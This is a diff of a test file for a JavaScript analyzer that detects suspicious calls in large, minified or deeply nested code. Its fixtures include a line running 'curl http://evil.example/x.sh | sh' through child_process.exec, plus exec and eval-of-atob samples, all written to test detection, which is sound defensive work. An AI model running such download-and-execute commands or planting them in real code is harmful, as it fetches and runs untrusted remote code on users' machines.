@@ -230,7 +230,7 @@ describe('hostile and large input', () => {
     assert.ok(result.calls.some((call) => call.callee === 'https.get'));
   });
 
-  test('a 5 MB minified bundle stays within the per-file budget and keeps its facts', () => {
+  test('a 5 MB minified bundle is read whole by the token reader and keeps its facts', () => {
     // One line, as minifiers write it, of distinct small modules; the telling call sits at the end.
     const parts: string[] = [];
     let size = 0;
@@ -243,18 +243,12 @@ describe('hostile and large input', () => {
     parts.push('const{exec:x}=require("child_process");x("id");');
     const code = parts.join('');
     assert.ok(code.length > LEXICAL_THRESHOLD_CHARS);
-    const budget = 4000;
     const rssBefore = process.memoryUsage().rss;
-    const started = performance.now();
-    const result = analyzeJavaScriptSourceDetailed('dist/bundle.min.js', Buffer.from(code), {
-      timeBudgetMs: budget,
-    });
-    const elapsed = performance.now() - started;
-    assert.ok(elapsed < budget * 1.5, `took ${elapsed.toFixed(0)} ms`);
+    const result = analyzeJavaScriptSourceDetailed('dist/bundle.min.js', Buffer.from(code));
     assert.ok(process.memoryUsage().rss - rssBefore < 400 * 1024 * 1024, 'memory stays bounded');
     assert.ok(result.facts.imports.some((fact) => fact.module === 'path'));
-    const timedOut = result.problems.some((p) => p.kind === 'timeout');
-    if (!timedOut) assert.ok(result.facts.calls.some((call) => call.callee === 'child_process.exec'));
+    assert.ok(!result.problems.some((p) => p.kind === 'timeout'));
+    assert.ok(result.facts.calls.some((call) => call.callee === 'child_process.exec'));
     assert.ok(result.facts.constructs.some((c) => c.kind === 'long-line'));
   });
 });
@@ -289,5 +283,29 @@ describe('callee obfuscation', () => {
     const [call] = facts('eval.call(null, atob(payload));').calls.filter((c) => c.callee === 'builtins.eval');
     assert.equal(call?.args.length, 1);
     assert.deepEqual(call?.args[0], { kind: 'call', callee: 'builtins.atob', text: 'atob(payload)' });
+  });
+});
+
+describe('deep nesting and work budgets', () => {
+  const payload = 'require("child_process").exec("curl http://evil.example/x.sh | sh");\n';
+
+  test('a parse that gives up on deep nesting hands the file to the token reader and says so', () => {
+    const depth = 40_000;
+    const code = `var a=${'['.repeat(depth)}${']'.repeat(depth)};\n${payload}`;
+    const run = () => analyzeJavaScriptSourceDetailed('install.js', Buffer.from(code));
+    const result = run();
+    assert.equal(result.facts.partial, true);
+    assert.match(result.problems[0]?.message ?? '', /parsing passed its budget of \d+ steps/);
+    assert.ok(result.facts.calls.some((call) => call.callee === 'child_process.exec'));
+    // Work, not time: the same input stops at the same step on a busy machine.
+    assert.deepEqual(run(), result);
+  });
+
+  test('the token reader resolves require("m").member(…) as the module member', () => {
+    const code = `var a=[${'[1],'.repeat(30_000)}];${payload}`;
+    assert.ok(code.length > 96 * 1024);
+    const result = analyzeJavaScriptSourceDetailed('install.js', Buffer.from(code));
+    const call = result.facts.calls.find((c) => c.callee === 'child_process.exec');
+    assert.deepEqual(call?.args, [{ kind: 'string', value: 'curl http://evil.example/x.sh | sh' }]);
   });
 });
